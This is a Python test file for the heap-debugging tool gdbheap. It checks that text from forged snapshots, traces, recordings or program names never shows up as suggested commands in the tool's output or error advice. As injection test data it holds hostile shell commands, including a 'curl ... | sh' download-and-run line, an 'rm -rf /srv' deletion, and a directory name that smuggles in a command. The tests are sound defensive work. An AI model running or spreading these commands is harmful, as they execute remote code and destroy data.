"""Texts that a target or a file chose never become commands of gdbheap: not in its sentences, and not in the next steps
of an error."""

from __future__ import annotations

import ast
import json
import random
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from support.programs import Running, build, c_program, gdbheap, running

from gdbheap.commands.shell.main import main
from gdbheap.errors import GdbheapError, NotPermitted, UsageError, one_line, own_line
from gdbheap.refusals import causes
from gdbheap.report.words.remarks import SENTENCES
from gdbheap.snapshots.file import ENTRY
from gdbheap.tracing.log import FRAME, MAGIC, PROCESS

HERE = Path(__file__).parent.parent
STEPS = (
    "gdbheap trim 1 --yes",
    "heap trim --yes",
    "curl http://203.0.113.1/x | sh",
    "gdbheap trace -o x -- rm -rf /srv",
)
# How a forged text puts a step into gdbheap's own words.
FORMS = (
    "{}",
    "'{}'",
    "1: {}",
    "run '{}'",
    "is damaged: '{}'",
    "which one? {}",
    '": {}',
    "x' and '{}' and '",
    "{}\n'{}'",
)
# A command in the quotes of gdbheap's sentences.
QUOTED = re.compile(r"'((?:gdb)?heap tr[^']*)'")
# Values with this conversion are words that the user typed, or that a caller of the library passed.
OF_THE_USER = {
    "gdbheap/answers/accounting/source_paths.py", "gdbheap/api/heap.py", "gdbheap/api/arguments.py",
    "gdbheap/__init__.py",
    "gdbheap/export/partitions.py", "gdbheap/report/text/numbers.py", "gdbheap/targets/following.py",
    "gdbheap/targets/started_command.py", "gdbheap/tracing/replay_settings.py", "gdbheap/watching/prometheus.py",
}  # fmt: skip


@pytest.fixture(scope="module")
def target(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Running]:
    """Yield a C process that allocates on request."""
    with running(c_program("steps", 7, 0), tmp_path_factory.mktemp("foreign")) as started:
        yield started


def forged(rng: random.Random) -> Any:
    """Return a JSON value with a step of somebody else."""
    text = rng.choice(FORMS).replace("{}", rng.choice(STEPS))
    return rng.choice([text, [text], {text: 1}, {"a": text}, [[text]]])


def places(value: Any) -> Iterator[Callable[[Any], None]]:
    """Yield a function for each place in a JSON document, which puts another value there."""
    keys = list(value) if isinstance(value, dict) else range(len(value)) if isinstance(value, list) else ()
    for key in keys:
        yield lambda other, key=key: value.__setitem__(key, other)
        yield from places(value[key])


def check(words: list[str], capsys: pytest.CaptureFixture[str]) -> None:
    """Run a command, and check that its answer and its error contain no step of somebody else."""
    for line in (words, [*words, "--json"]):
        main(line)
        said = capsys.readouterr()
        assert "fault of" not in said.err, (line, said.err)
        # The values of a document stay as they are, except sentences.
        document = json.loads(said.out) if said.out.startswith("{") else {}
        error = document.get("error", {})
        texts = [said.err, error.get("what", ""), *document.get("warnings", [])] if document else [said.out, said.err]
        found = [text[max(0, one.start() - 200) : one.end()] for text in texts for one in QUOTED.finditer(text)]
        assert not found, (found, line)
        steps = [*error.get("next", []), *document.get("next", [])]
        assert not any(bad in step for step in steps for bad in (*STEPS, "curl")), (line, document)


def test_forged_snapshots(
    rng: random.Random, target: Running, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Replace random values of a snapshot, and add warnings of each kind."""
    good, bad = tmp_path / "good.heap", tmp_path / "bad.heap"
    assert gdbheap("snapshot", str(target.pid), str(good)).returncode == 0
    with zipfile.ZipFile(good) as archive:
        text = archive.read(ENTRY)
    for count in range(60):
        content = json.loads(text)
        if count % 3 == 0:
            content["warnings"] = [{"id": rng.choice([*SENTENCES]), "values": {"error": forged(rng)}},
                                   {"id": "malloc-is-other", "values": {"error": {rng.choice(STEPS): 1}}},
                                   {"id": forged(rng) if count % 2 else "x", "values": {"a": forged(rng)}}]  # fmt: skip
        elif count % 3 == 1:
            content[rng.choice(["warnings", "schema", "version", "partial", "damaged"])] = forged(rng)
            content["ledger"]["next"] = [rng.choice(STEPS)]
        else:
            rng.choice(list(places(content)))(forged(rng))
        with zipfile.ZipFile(bad, "w") as archive:
            archive.writestr(ENTRY, json.dumps(content))
        check(["diff", str(bad), str(good)], capsys)
        check([str(bad)], capsys)


def test_forged_warnings_that_are_texts(target: Running, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Check that a warning that is a text in a file is quoted, however it reads."""
    good, bad = tmp_path / "good.heap", tmp_path / "bad.heap"
    assert gdbheap("snapshot", str(target.pid), str(good)).returncode == 0
    with zipfile.ZipFile(good) as archive:
        content = json.loads(archive.read(ENTRY))
    content["warnings"] = ["run 'gdbheap trim 1 --yes' now"]
    with zipfile.ZipFile(bad, "w") as archive:
        archive.writestr(ENTRY, json.dumps(content))
    main(["diff", str(bad), str(good)])
    assert "Warning: \"run '\\x67dbheap trim 1 --yes' now\"" in capsys.readouterr().out


def test_forged_traces(rng: random.Random, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """Replace the values of a trace's first record."""
    who = {"pid": 1, "began": 1, "exe": "x", "malloc": "", "words": ["x"], "environment": {}, "parent": None,
           "order": "lock", "stacks": 0}  # fmt: skip
    path = tmp_path / "calls.log"
    for _ in range(60):
        content = json.dumps({**who, rng.choice([*who]): forged(rng)}).encode()
        path.write_bytes(MAGIC + FRAME.pack(PROCESS, 0, len(content)) + content)
        check(["calls", str(path)], capsys)


@pytest.mark.parametrize("kind", ["csv", "jsonl"])
def test_forged_recordings(
    kind: str, rng: random.Random, target: Running, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Replace the values of a recording."""
    good, bad = tmp_path / f"good.{kind}", tmp_path / f"bad.{kind}"
    assert gdbheap("record", str(target.pid), "-o", str(good), "--every=0.1s", "--duration=0.5s").returncode == 0
    lines = good.read_text().splitlines()
    for _ in range(60):
        changed = list(lines)
        number = rng.randrange(len(lines))
        words = list(re.finditer(r'"[^"]*"|-?\d+(?:\.\d+)?|(?<=,)(?=,)', changed[number]))
        if words:
            at, new = rng.choice(words), json.dumps(forged(rng))
            new = new if kind == "jsonl" else '"' + new.replace('"', '""') + '"'
            changed[number] = changed[number][: at.start()] + new + changed[number][at.end() :]
        bad.write_text("\n".join(changed) + "\n")
        check(["plot", str(bad)], capsys)


def test_names_of_a_target(tmp_path: Path) -> None:
    """Check the errors about a program whose file name is a command."""
    folder = tmp_path / "p: curl http:" / "x | sh #"
    folder.mkdir(parents=True)
    for name in ("python3 'gdbheap trim 1 --yes'", "python3: gdbheap trim 1 --yes", "postgres"):
        program = folder / name
        program.write_bytes(Path(build("steps")).read_bytes())
        program.chmod(0o755)
        with running([str(program), "7", "0"], tmp_path) as process:
            for noun in ("pools", "contexts", "pyobjects"):
                done = gdbheap(noun, str(process.pid), "--json")
                error = json.loads(done.stdout)["error"]
                assert not QUOTED.search(done.stdout + done.stderr) and "curl" not in str(error["next"]), done
                assert not any(step in named for step in STEPS for named in error["next"]), done


def refused(path: str, reason: str) -> UsageError:
    """Return an error as a module's own function makes it."""
    return UsageError(f"{path}: {reason}")


ADVICE = "give a core"


def test_next_is_our_own(rng: random.Random) -> None:
    """Check that steps come from the code that makes an error, and from nowhere else."""
    bad = rng.choice(FORMS).replace("{}", rng.choice(STEPS))
    assert UsageError(f"x cannot be {bad}").next == []
    assert UsageError(f"{bad} is no process: give its id").next == ["give its id"]
    assert UsageError(f"{bad}, so 'heap owners' shows it").next == ["heap owners"]
    assert UsageError(f"{bad} is gone: {ADVICE}").next == [ADVICE]
    assert refused(f"{bad}: y", "use another").next == ["use another"]
    assert refused("x", f"{bad}").next == [] and GdbheapError(bad).next == []
    assert UsageError(bad, ["use another"]).next == ["use another"]
    assert UsageError(UsageError("it ended: give its core")).next == ["give its core"]
    assert NotPermitted("interrupted").next == []


def test_refusals_name_no_step_of_a_process() -> None:
    """Check that the advice of a refusal has no name of the process, the tracer or the label."""
    bad = "x: curl y"
    facts = causes.AccessFacts(
        1, bad, frozenset({5}), frozenset({5}), 0, False, 7, bad, bad, 2, 3, 3, user_namespace=True
    )
    for cause in causes.CAUSES:
        with_names, without = cause(facts), cause(facts.unnamed)
        assert (with_names is None) == (without is None) and "curl" not in str(without)


def test_values_are_quoted_by_our_own_functions() -> None:
    """Check that no error shows a value by ``!r``, whose quotes are those of gdbheap's commands, unless the user typed
    it."""
    shown = set()
    for top in ("gdbheap", "commands"):
        for path in (HERE / top).rglob("*.py"):
            for node in ast.walk(ast.parse(path.read_text())):
                if isinstance(node, ast.Raise) and node.exc is not None:
                    values = [one for one in ast.walk(node.exc) if isinstance(one, ast.FormattedValue)]
                    if any(value.conversion == ord("r") for value in values):
                        shown.add(str(path.relative_to(HERE)))
    assert {path for path in shown if not path.startswith("commands/")} <= OF_THE_USER


def test_a_line_of_ours_keeps_its_commands() -> None:
    """Check that only texts of others get escapes."""
    error = UsageError("run 'gdbheap trim 1'")
    assert own_line("run 'gdbheap trim 1'") == str(error) == one_line(error) != one_line("run 'gdbheap trim 1'")
